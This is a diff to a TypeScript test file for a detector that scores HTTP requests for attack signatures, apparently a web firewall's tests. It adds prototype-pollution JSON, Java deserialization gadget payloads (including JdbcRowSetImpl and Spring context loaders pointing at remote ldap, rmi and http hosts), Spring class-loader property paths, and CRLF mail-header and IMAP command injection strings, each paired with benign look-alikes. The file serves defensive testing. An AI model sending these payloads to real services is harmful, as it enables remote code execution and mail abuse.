@@ -75,7 +75,10 @@ const POLLUTION: Array<[string, string]> = [
   ["header:Cookie", "a[__proto__][b]=1"],
   ["body:json", '{"__proto__":{"isAdmin":true}}'],
   ["body:json", '{"user":{"constructor":{"prototype":{"isAdmin":true}}}}'],
-  ["body:json", '{"\u005f_proto__":{"isAdmin":true}}'],
+  ["body:json", '{"\\u005f_proto__":{"isAdmin":true}}'], // JSON.parse unescapes the key
+  ["body:json", '{"a":1, "__proto__" : [{"isAdmin":true}]}'],
+  ["body:json", '{"constructor": {"prototype": {"isAdmin":true}}}'],
+  ["query", "a[constructor][prototype].isAdmin=1"],
 ];
 const NOT_POLLUTION: Array<[string, string]> = [
   ["query", "proto=http&x__proto__y=1"],
@@ -83,19 +86,69 @@ const NOT_POLLUTION: Array<[string, string]> = [
   ["body:json", '{"constructor":"Foo","prototype":"bar"}'],
   ["body:json", '{"kind":"constructor","name":"prototype"}'],
   ["body:json", '{"text":"JavaScript sets an object\u0027s __proto__ and its constructor.prototype, see MDN"}'],
+  // A primitive assigned to __proto__ or prototype changes no prototype.
+  ["body:json", '{"__proto__":12,"isAdmin":true}'],
+  ["body:json", '{"__proto__":"x"}'],
+  ["body:json", '{"path":"__proto__","value":{"a":1}}'],
+  ["body:json", '{"constructor":{"prototype":"x"}}'],
+  ["query", "a[__proto__]=1"],
+  ["query", "__proto__=1&x=2"],
+  ["body:form", "settings.constructor.prototype=1"],
+];
+
+// Type designators naming a deserialization gadget (fastjson, Jackson, XStream, XMLDecoder), and
+// Spring's and Struts' class-loader property paths.
+const GADGET: Array<[string, string]> = [
+  ["body:json", '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://198.51.100.7:1389/x","autoCommit":true}'],
+  ["body:json", '{"@type":"Lcom.sun.rowset.JdbcRowSetImpl;","dataSourceName":"rmi://198.51.100.7/x"}'],
+  ["body:json", '{"@type":"[com.sun.rowset.JdbcRowSetImpl"[{,"dataSourceName":"rmi://198.51.100.7/x"}'],
+  ["body:json", '["org.springframework.context.support.ClassPathXmlApplicationContext","http://198.51.100.7/x.xml"]'],
+  ["body:json", '{"id":1,"obj":["ch.qos.logback.core.db.DriverManagerConnectionSource",{"url":"jdbc:h2:mem:"}]}'],
+  ["query", "type=java.lang.ProcessBuilder"],
+  ["body:xml", '<java version="1.8" class="java.beans.XMLDecoder"><object class="java.lang.ProcessBuilder"><void method="start"/></object></java>'],
+  ["body:xml", '<sorted-set><string>x</string><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="java.beans.EventHandler"/></dynamic-proxy></sorted-set>'],
+  ["body:form", "class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp&x=1"],
+  ["query", "class%5B%27classLoader%27%5D.jarPath=x"],
+  ["query", "Class.classLoader.resources.dirContext.docBase=/tmp"],
+];
+const NOT_GADGET: Array<[string, string]> = [
+  // A stack trace names java.lang classes as frames, not as a type to build.
+  ["body:json", JSON.stringify({ stack: "java.io.IOException: Cannot run program\n\tat java.lang.ProcessBuilder.start(ProcessBuilder.java:1048)\n\tat java.lang.Runtime.exec(Runtime.java:594)" })],
+  ["body:json", '{"@type":"type.googleapis.com/envoy.config.cluster.v3.Cluster","name":"x"}'],
+  ["query", "lib=java.lang.RuntimeException"],
+  ["body:xml", "<dependency><groupId>javax.servlet</groupId><artifactId>servlet-api</artifactId></dependency>"],
+  ["query", "classLoader=app&loader.class=x"],
+];
+
+// A field value broken by a line break into a recipient header or a mail protocol command.
+const MAIL: Array<[string, string]> = [
+  ["body:form", "email=alice%40example.com%0ABcc%3Avictim%40example.net&msg=hi"],
+  ["query", "subject=Hello%0D%0ACc:%20a%40example.net"],
+  ["body:json", '{"from":"a@example.com\\r\\nRCPT TO:<victim@example.net>\\r\\nDATA\\r\\nspam\\r\\n."}'],
+  ["query", "mailbox=INBOX%0D%0AV100%20CAPABILITY%0D%0AV101%20FETCH%204791"],
+  ["header:Cookie", "folder=Sent%0d%0aA1%20LOGOUT"],
+];
+const NOT_MAIL: Array<[string, string]> = [
+  // A pasted e-mail starts with a header line of its own; prose before a line break is not a field value.
+  ["body:form", "message=" + encodeURIComponent("From: Ann <ann@example.com>\nTo: Bob <bob@example.com>\nSubject: lunch")],
+  ["body:json", JSON.stringify({ note: "Thanks for the call.\nNext steps below.\nTo do: send the invoice" })],
+  ["body:json", JSON.stringify({ text: "We met on the third floor and went over the plan again. ".repeat(5) + "\nBcc: someone@example.com" })],
+  ["query", "q=line%0Aanother%20line"],
 ];
 
 describe.each([
-  ["serialized-object", SERIALIZED, NOT_SERIALIZED],
-  ["prototype-pollution", POLLUTION, NOT_POLLUTION],
-] as Array<[string, Array<[string, string | Uint8Array]>, Array<[string, string]>]>)("%s signatures", (_kind, hits, misses) => {
-  it.each(hits)("%s %j scores 1, class rce", (where, text) => {
+  ["serialized-object", "rce", SERIALIZED, NOT_SERIALIZED],
+  ["prototype-pollution", "rce", POLLUTION, NOT_POLLUTION],
+  ["java-gadget", "rce", GADGET, NOT_GADGET],
+  ["mail-injection", "crlf", MAIL, NOT_MAIL],
+] as Array<[string, string, Array<[string, string | Uint8Array]>, Array<[string, string]>]>)("%s signatures", (_kind, cls, hits, misses) => {
+  it.each(hits)(`%s %j scores 1, class ${cls}`, (where, text) => {
     const s = core.score(where, text);
     expect(s.score).toBe(1);
-    expect(s.classes.rce).toBe(1);
+    expect(s.classes[cls]).toBe(1);
   });
   it.each(misses)("%s %j is left to the model", (where, text) => {
-    expect(core.score(where, text).classes.rce).toBeGreaterThan(1);
+    expect(core.score(where, text).classes[cls]).toBeGreaterThan(1);
   });
 });
 
